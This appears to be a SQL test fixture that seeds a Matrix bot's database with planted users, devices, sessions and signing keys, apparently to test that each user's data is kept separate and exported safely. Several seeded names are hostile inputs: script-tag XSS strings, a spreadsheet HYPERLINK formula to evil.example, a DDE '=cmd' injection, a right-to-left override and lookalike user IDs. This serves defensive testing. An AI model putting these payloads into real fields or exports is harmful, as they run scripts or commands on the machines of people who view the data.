-- The small demo company. planted-ada-… is Ada's, planted-grace-… Grace's, and so on; planted-secret-… may never leave.
-- @Ada:example.org and @ada:example.org.evil.net are other people than @ada:example.org.

INSERT INTO mx_user_profile (room_id, user_id, membership, displayname, avatar_url) VALUES
    ('!planted-ada-room:example.org', '@ada:example.org', 'join', 'Ada <script>alert("planted-ada-script")</script> Lovelace', 'mxc://example.org/planted-ada-avatar'),
    ('!lobby:example.org', '@ada:example.org', 'join', 'planted-ada-Лавлейс 🜂 ‮eman', NULL),
    ('!left:example.org', '@ada:example.org', 'leave', '=HYPERLINK("https://evil.example/?planted-ada-formula","Ada")', NULL),
    ('!lobby:example.org', '@grace:example.org', 'join', 'planted-grace-name', 'mxc://example.org/planted-grace-avatar'),
    ('!lobby:example.org', '@malice:example.org', 'ban', 'planted-bob-name', NULL),
    ('!lobby:example.org', '@elodie:example.org', 'invite', 'planted-elodie-Élodie', NULL),
    ('!lobby:example.org', '@Ada:example.org', 'join', 'planted-capital-name', NULL),
    ('!lobby:example.org', '@ada:example.org.evil.net', 'knock', 'planted-evil-name', NULL);

INSERT INTO crypto_device (user_id, device_id, identity_key, signing_key, trust, deleted, name) VALUES
    ('@ada:example.org', 'planted-ada-DEV1', 'planted-ada-idkey1AAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-ada-signkey1AAAAAAAAAAAAAAAAAAAAAAA', 0, FALSE, 'Ada''s phone <script>alert("planted-ada-device")</script>'),
    ('@ada:example.org', 'planted-ada-DEV2', 'planted-ada-idkey2AAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-ada-signkey2AAAAAAAAAAAAAAAAAAAAAAA', 1, TRUE, '=cmd|''/C planted-ada-device''!A1'),
    ('@grace:example.org', 'planted-grace-DEV1', 'planted-grace-idkey1AAAAAAAAAAAAAAAAAAAAAAA', 'planted-grace-signkey1AAAAAAAAAAAAAAAAAAAAA', 0, FALSE, 'planted-grace-device'),
    ('@malice:example.org', 'planted-bob-DEV1', 'planted-bob-idkey1AAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-bob-signkey1AAAAAAAAAAAAAAAAAAAAAAA', 0, FALSE, 'planted-bob-device'),
    ('@Ada:example.org', 'planted-capital-DEV1', 'planted-capital-idkey1AAAAAAAAAAAAAAAAAAAAA', 'planted-capital-signkey1AAAAAAAAAAAAAAAAAAA', 0, FALSE, 'planted-capital-device'),
    ('@ada:example.org.evil.net', 'planted-evil-DEV1', 'planted-evil-idkey1AAAAAAAAAAAAAAAAAAAAAAAA', 'planted-evil-signkey1AAAAAAAAAAAAAAAAAAAAAA', 0, FALSE, 'planted-evil-device');

-- sender_key is the identity key of the device above; the session itself is the word "secret" in bytes.
INSERT INTO crypto_olm_session (account_id, session_id, sender_key, session, created_at, last_decrypted, last_encrypted) VALUES
    ('@maubot:example.org', 'planted-ada-olm1AAAAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-ada-idkey1AAAAAAAAAAAAAAAAAAAAAAAAA', '\x736563726574', '2026-03-01 10:00:00', '2026-03-01 10:00:00', '2026-03-01 10:00:00'),
    ('@maubot:example.org', 'planted-ada-olm2AAAAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-ada-idkey2AAAAAAAAAAAAAAAAAAAAAAAAA', '\x736563726574', '2026-03-02 10:00:00', '2026-03-02 10:00:00', '2026-03-02 10:00:00'),
    ('@maubot:example.org', 'planted-grace-olm1AAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-grace-idkey1AAAAAAAAAAAAAAAAAAAAAAA', '\x736563726574', '2026-03-01 10:00:00', '2026-03-01 10:00:00', '2026-03-01 10:00:00'),
    ('@maubot:example.org', 'planted-bob-olm1AAAAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-bob-idkey1AAAAAAAAAAAAAAAAAAAAAAAAA', '\x736563726574', '2026-03-01 10:00:00', '2026-03-01 10:00:00', '2026-03-01 10:00:00');

INSERT INTO crypto_tracked_user (user_id) VALUES
    ('@ada:example.org'),
    ('@grace:example.org'),
    ('@malice:example.org'),
    ('@Ada:example.org'),
    ('@ada:example.org.evil.net');

INSERT INTO crypto_cross_signing_keys (user_id, usage, key, first_seen_key) VALUES
    ('@ada:example.org', 'master', 'planted-ada-masterAAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-ada-first-masterAAAAAAAAAAAAAAAAAAA'),
    ('@ada:example.org', 'self_signing', 'planted-ada-self_signingAAAAAAAAAAAAAAAAAAA', 'planted-ada-first-self_signingAAAAAAAAAAAAA'),
    ('@grace:example.org', 'master', 'planted-grace-masterAAAAAAAAAAAAAAAAAAAAAAA', 'planted-grace-first-masterAAAAAAAAAAAAAAAAA'),
    ('@malice:example.org', 'master', 'planted-bob-masterAAAAAAAAAAAAAAAAAAAAAAAAA', 'planted-bob-first-masterAAAAAAAAAAAAAAAAAAA'),
    ('@Ada:example.org', 'master', 'planted-capital-masterAAAAAAAAAAAAAAAAAAAAA', 'planted-capital-first-masterAAAAAAAAAAAAAAA');

-- The second says that Grace signed Ada's key: it is about both. The third is the reverse.
INSERT INTO crypto_cross_signing_signatures (signed_user_id, signed_key, signer_user_id, signer_key, signature) VALUES
    ('@ada:example.org', 'planted-ada-masterAAAAAAAAAAAAAAAAAAAAAAAAA', '@ada:example.org', 'planted-ada-DEV1', 'planted-ada-sig-selfAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'),
    ('@ada:example.org', 'planted-shared-ada-masterAAAAAAAAAAAAAAAAAA', '@grace:example.org', 'planted-shared-key-of-graceAAAAAAAAAAAAAAAA', 'planted-shared-sig-by-graceAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'),
    ('@grace:example.org', 'planted-shared-grace-masterAAAAAAAAAAAAAAAA', '@ada:example.org', 'planted-shared-key-of-adaAAAAAAAAAAAAAAAAAA', 'planted-shared-sig-by-adaAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'),
    ('@grace:example.org', 'planted-grace-masterAAAAAAAAAAAAAAAAAAAAAAA', '@grace:example.org', 'planted-grace-DEV1', 'planted-grace-sig-selfAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA');
